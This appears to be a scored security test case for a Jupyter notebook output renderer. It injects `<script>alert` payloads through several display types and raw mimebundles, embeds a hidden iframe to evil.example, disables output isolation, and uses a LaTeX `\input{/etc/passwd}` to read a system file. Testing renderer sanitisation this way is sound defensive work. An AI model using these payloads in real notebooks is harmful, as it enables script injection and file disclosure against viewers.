# tries: to run script where its outputs are looked at
# points: 50
from IPython.display import HTML, SVG, IFrame, Javascript, Markdown, display

SCRIPT = "<script>alert('ATTACKED')</script>"
display(HTML(SCRIPT), Javascript("alert('ATTACKED')"), Markdown(SCRIPT), IFrame("http://evil.example", 1, 1))
display({"text/html": SCRIPT, "image/svg+xml": SCRIPT, "application/javascript": SCRIPT, "text/plain": "plain"}, raw=True)
display({"image/png": SCRIPT, "text/plain": "plain"}, raw=True)

class Shown:
    def _repr_html_(self):
        return SCRIPT

    def _repr_mimebundle_(self, *arguments, **settings):
        return {"text/html": SCRIPT, "text/latex": "$\\input{/etc/passwd}$"}, {"text/html": {"isolated": False}}

    def __repr__(self):
        return "shown"

Shown()
